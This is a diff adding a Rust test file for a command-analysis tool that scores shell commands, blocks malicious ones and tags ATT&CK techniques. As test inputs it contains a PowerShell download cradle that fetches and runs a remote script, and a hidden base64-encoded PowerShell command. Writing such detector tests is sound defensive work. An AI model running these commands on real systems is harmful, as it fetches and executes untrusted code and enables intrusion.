@@ -1,0 +1,90 @@
+//! The analyser end to end (without a model): verdicts, explanations, limits.
+
+use super::*;
+
+fn analyzer() -> Analyzer {
+    Analyzer::new(None, VerdictConfig::default())
+}
+
+#[test]
+fn a_download_cradle_is_blocked_with_its_techniques() {
+    let v = analyzer().analyze(
+        "IEX (New-Object Net.WebClient).DownloadString('http://8.8.8.8/x.ps1')",
+        None,
+    );
+    assert_eq!(v.shell, Shell::Powershell);
+    assert!(v.score >= 80.0, "{}", v.score);
+    assert_eq!(v.action, Action::Block);
+    assert!(v.attack.contains(&"T1105") && v.attack.contains(&"T1059.001"));
+    assert!(
+        v.explanation.contains("PowerShell downloads and runs code"),
+        "{}",
+        v.explanation
+    );
+    assert_eq!(v.tokens.urls, ["http://8.8.8.8/x.ps1"]);
+}
+
+#[test]
+fn obfuscation_never_lowers_the_verdict() {
+    let a = analyzer();
+    let clear = a.analyze("Invoke-Expression 'whoami /all'", Some(Shell::Powershell));
+    let bytes: Vec<u8> = "Invoke-Expression 'whoami /all'"
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let hidden = a.analyze(
+        &format!(
+            "powershell -w hidden -enc {}",
+            deobf::codec::to_base64(&bytes)
+        ),
+        None,
+    );
+    assert!(
+        hidden.score >= clear.score,
+        "{} < {}",
+        hidden.score,
+        clear.score
+    );
+    assert!(hidden.layers.len() > 1);
+    assert!(hidden.explanation.contains("layer"));
+}
+
+#[test]
+fn everyday_commands_are_allowed() {
+    let a = analyzer();
+    for text in [
+        "ls -la",
+        "git status",
+        "Get-ChildItem -Path C:\\Users",
+        "dir /b",
+        "tar -xzf x.tgz",
+        "docker compose up -d",
+    ] {
+        let v = a.analyze(text, None);
+        assert_eq!(v.action, Action::Allow, "{text}: {}", v.explanation);
+    }
+}
+
+#[test]
+fn huge_and_binary_input_gets_a_verdict() {
+    let a = analyzer();
+    let big = "QUFB".repeat(10 << 20 >> 2);
+    let v = a.analyze(&format!("powershell -enc {big}"), None);
+    assert!(v.notes.iter().any(|n| n.contains("first")), "{:?}", v.notes);
+    let garbage: String = (0..20_000u32)
+        .map(|i| char::from_u32((i * 7919) % 0x2fff).unwrap_or('x'))
+        .collect();
+    let _ = a.analyze(&garbage, None);
+}
+
+#[test]
+fn shells_are_guessed_from_syntax() {
+    assert_eq!(
+        Shell::guess("Get-Process | Stop-Process"),
+        Shell::Powershell
+    );
+    assert_eq!(Shell::guess("reg add HKCU\\x /v y"), Shell::Cmd);
+    assert_eq!(Shell::guess("ls -la | grep x"), Shell::Sh);
+    assert_eq!("PowerShell".parse::<Shell>().unwrap(), Shell::Powershell);
+    assert!("fish".parse::<Shell>().is_err());
+}
